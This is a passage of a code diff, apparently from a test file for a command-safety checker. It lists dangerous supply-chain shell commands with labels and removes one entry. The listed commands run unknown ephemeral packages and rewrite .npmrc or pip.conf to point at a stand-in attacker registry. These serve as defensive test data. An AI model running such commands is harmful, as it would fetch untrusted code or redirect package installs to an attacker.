@@ -581,7 +581,6 @@ SUPPLY_DANGEROUS: list[tuple[str, str]] = [
     ("npx -y totally-unknown-pkg", "supply-chain/ephemeral-package"),
     ("pnpm dlx @evil/setup", "supply-chain/ephemeral-package"),
     ("uvx unknown-tool-xyz", "supply-chain/ephemeral-package"),
-    ("go run evil.example.com/tool@latest", "supply-chain/ephemeral-package"),
     ("echo 'registry=https://evil.example.com/' > .npmrc", "supply-chain/registry-config-write"),
     (
         "printf '[global]\\nindex-url = https://evil.example.com/simple\\n' > pip.conf",
